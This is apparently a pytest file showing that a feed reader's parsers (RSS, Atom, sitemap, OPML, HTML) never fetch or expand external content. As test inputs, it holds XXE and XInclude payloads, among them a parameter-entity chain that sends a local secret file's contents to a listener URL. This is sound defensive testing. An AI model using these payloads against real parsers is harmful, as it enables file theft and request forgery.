"""Neither feedparser nor lxml fetches, includes or expands anything, whatever a document asks for."""

from __future__ import annotations

import socket
import threading
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path

import pytest
from lxml import etree

from breachwire.errors import ContentError
from breachwire.records import Entry, Feed, Page, Reply
from breachwire.settings.models import ArticleText
from extractors import discovering
from extractors.article import read_article
from extractors.feed import read_feed
from extractors.opml import read_opml

SECRET = "the-secret-of-the-dairy"


class Listener:
    """Counts who connects; `base` is its address."""

    def __init__(self) -> None:
        self.count = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.base = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                self.count += 1
                connection.settimeout(2)
                connection.recv(65536)  # unread bytes would make the close a reset
                connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n<rss version='2.0'/>")
                connection.close()

    def stop(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.stop()


@pytest.fixture
def canary(tmp_path: Path) -> str:
    (tmp_path / "canary.txt").write_text(SECRET)
    return (tmp_path / "canary.txt").as_uri()


PROLOGS = [
    '<!DOCTYPE {root} SYSTEM "{web}/evil.dtd">',
    '<!DOCTYPE {root} PUBLIC "-//X//X" "{web}/evil.dtd" [<!ENTITY x SYSTEM "{file}">]>',
    '<!DOCTYPE {root} [<!ENTITY x SYSTEM "{file}">]>',
    '<!DOCTYPE {root} [<!ENTITY x SYSTEM "{web}/x.txt">]>',
    '<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{web}/p.dtd"> %p;]>',
    '<!DOCTYPE {root} [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY x SYSTEM \'{web}/?%f;\'>"> %e;]>',
    '<?xml-stylesheet type="text/xsl" href="{web}/evil.xsl"?>',
    '<?xml version="1.0"?><?xml-model href="{web}/evil.rng"?><!DOCTYPE x SYSTEM "{file}">',
]
ASKING = (
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/><xi:include'
    ' xmlns:xi="http://www.w3.org/2001/XInclude" href="{web}/i.xml"/><itunes:new-feed-url'
    ' xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">{web}/new</itunes:new-feed-url>'
    '<img src="{web}/i.png"/><link rel="self" href="{web}/self"/><script src="{web}/s.js"></script>'
)
BODIES = {
    "rss": '<rss version="2.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:schemaLocation="a {web}/a.xsd">'
    "<channel><title>&x;</title><item><title>T &x;</title><link>https://herald.example/a</link>"
    "<description>D &x; {asking}</description></item></channel></rss>",
    "feed": '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{web}/"><title>&x;</title><entry><title>&x;</title>'
    '<link href="a"/><content type="text/xml" src="{web}/content">{asking}</content></entry></feed>',
    "urlset": '<urlset xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">'
    "<url><loc>https://herald.example/a</loc><news:news><news:title>&x;{asking}</news:title></news:news></url></urlset>",
    "opml": '<opml><body><outline text="&x;" xmlUrl="https://herald.example/f"/>'
    '<outline type="include" url="{web}/o.opml"/>'
    "{asking}</body></opml>",
    "html": '<html><head><link rel="alternate" type="application/rss+xml" href="{web}/feed"></head><body><article>'
    + "<p>The cranes of Larkwell Docks stand still, &x; says the port.</p>" * 9
    + "{asking}</article></body></html>",
}
REDIRECT = '<?xml version="1.0"?><redirect><newLocation>{web}/new</newLocation></redirect>'


def readers(reply: Reply) -> list[Callable[[], object]]:
    entry = Entry(article_id="a", feed_id="f", url=reply.url, canonical_url=reply.url, title="T")
    page = Page(
        entry=entry,
        source="x",
        final_url=reply.url,
        body=reply.body,
        content_type=reply.header("content-type"),
        fetched_at=reply.fetched_at,
    )
    return [
        lambda: read_feed(Feed(feed_id="f", url=reply.url, title="x"), reply, max_entries=9),
        lambda: read_opml(reply.body, "x"),
        lambda: discovering.named_feeds(reply),
        lambda: discovering.listed_sitemaps(reply, 3),
        lambda: read_article(page, ArticleText()),
    ]


def all_said(body: str, content_type: str) -> str:
    """What every reader makes of a body, as one text."""
    reply = Reply(
        url="https://herald.example/f",
        final_url="https://herald.example/f",
        status=200,
        headers=(("content-type", content_type),),
        body=body.encode(),
        fetched_at=datetime(2026, 11, 22, tzinfo=UTC),
    )
    said = []
    for reader in readers(reply):
        with suppress(ContentError):
            said.append(repr(reader()))
    return "".join(said)


@pytest.mark.parametrize("prolog", PROLOGS)
def test_no_document_makes_its_reader_fetch_or_include(prolog: str, listener: Listener, canary: str) -> None:
    for root, body in BODIES.items():
        place = {"web": listener.base, "file": canary, "root": root}
        text = prolog.format(**place) + body.format(**place, asking=ASKING.format(**place))
        assert SECRET not in all_said(text, "text/html" if root == "html" else "application/xml")
    assert listener.count == 0


@pytest.mark.parametrize("body", [REDIRECT, "{web}/feed", "{file}", "file:{file}", "feed:{web}/"])
def test_a_body_that_is_an_address_stays_unasked(body: str, listener: Listener, canary: str) -> None:
    assert SECRET not in all_said(body.format(web=listener.base, file=canary), "application/rss+xml")
    assert listener.count == 0


def test_the_traps_would_have_sprung(listener: Listener, canary: str) -> None:
    urllib.request.urlopen(listener.base, timeout=5).read()
    assert listener.count == 1
    text = PROLOGS[2].format(root="a", file=canary) + "<a>&x;</a>"
    opened = etree.fromstring(text.encode(), etree.XMLParser(resolve_entities=True, load_dtd=True))
    assert SECRET in "".join(opened.itertext())
